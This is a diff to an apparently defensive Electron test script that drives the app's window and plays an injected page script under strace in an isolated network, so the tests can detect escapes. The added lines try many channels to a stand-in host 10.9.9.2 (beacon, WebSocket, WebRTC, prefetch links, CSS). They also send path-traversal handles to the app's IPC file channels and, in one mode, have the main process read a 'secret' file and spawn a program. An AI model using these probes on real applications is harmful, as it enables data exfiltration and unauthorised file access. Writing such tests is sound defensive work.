@@ -1,5 +1,5 @@
 // Uses the window as a person does, for the tests that watch the system meanwhile: session ELECTRON REPOSITORY FOLDER [plant].
-// With "plant" the main process itself asks an address, which the tests must notice.
+// With "plant" the main process itself asks an address, reads a file and starts a program, which the tests must notice.
 // Plain JavaScript, because it runs below strace and in a network of its own, where no tool could translate it.
 import fs from "node:fs"
 import path from "node:path"
@@ -33,14 +33,66 @@ for (const id of ["keys", "help-score", "help-stored", "help-licences"]) {
   await page.waitForTimeout(300)
   await page.keyboard.press("Escape")
 }
-// Whatever a script in the page would try.
+// Whatever a script in the page would try. The tests find the beginning of it by this file.
+const secret = path.join(folder, "secret.txt")
+fs.writeFileSync(secret, "secret")
+fs.writeFileSync(path.join(folder, "injection-begins"), "")
 await page.evaluate(() => {
   navigator.sendBeacon("http://10.9.9.2/", "x")
   void fetch("http://10.9.9.2/").catch(() => undefined)
   new Image().src = "http://10.9.9.2/x.png"
+  for (const url of ["ws://10.9.9.2/", "wss://10.9.9.2/"]) new WebSocket(url)
+  try {
+    new EventSource("http://10.9.9.2/")
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:10.9.9.2:9" }] })
+    peer.createDataChannel("x")
+    void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
+    new WebTransport("https://10.9.9.2:9/").ready.catch(() => undefined)
+  } catch {
+    // Refused.
+  }
+  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "stylesheet", "icon", "manifest", "modulepreload"]) {
+    const link = document.createElement("link")
+    Object.assign(link, { rel, href: "http://10.9.9.2/link" })
+    document.head.append(link)
+  }
+  document.body.style.backgroundImage = "url(http://10.9.9.2/css.png)"
+  const video = document.createElement("video")
+  video.src = "http://10.9.9.2/v.mp4"
+  document.body.append(video)
 })
+// … and what it would try with files: every question with the path of one, where a handle belongs.
+await page.evaluate(
+  async ([secret, target]) => {
+    const bytes = new Uint8Array([1])
+    for (const channel of [
+      "document:openRecent",
+      "document:reload",
+      "document:save",
+      "document:close",
+      "versions:list",
+    ])
+      for (const handle of [secret, target, `file://${secret}`, "../secret.txt"])
+        for (const ask of [{ handle }, { handle, bytes }, { handle, bytes, how: "overwrite" }, handle])
+          await window.batten.ask(channel, ask).catch(() => undefined)
+    for (const recovery of [secret, target, "../../secret.txt"]) {
+      await window.batten.ask("recovery:open", { recovery }).catch(() => undefined)
+      const ask = { document: recovery, handle: null, name: target, bytes }
+      await window.batten.ask("recovery:keep", ask).catch(() => undefined)
+    }
+    const url = `file://${secret}`
+    await fetch(url).catch(() => undefined)
+    window.open(url)
+    location.href = url
+  },
+  [secret, path.join(folder, "planted.txt")],
+)
 if (plant === "plant")
-  await app.evaluate(() => fetch("http://10.9.9.2/", { signal: AbortSignal.timeout(1000) }).catch(() => 0))
+  await app.evaluate(async (_electron, file) => {
+    process.getBuiltinModule("node:fs").readFileSync(file)
+    process.getBuiltinModule("node:child_process").spawnSync("true")
+    await fetch("http://10.9.9.2/", { signal: AbortSignal.timeout(1000) }).catch(() => 0)
+  }, secret)
 await page.waitForTimeout(3000)
 console.log("session: all done")
 await app.evaluate(({ app: electronApp }) => electronApp.exit(0)).catch(() => undefined)
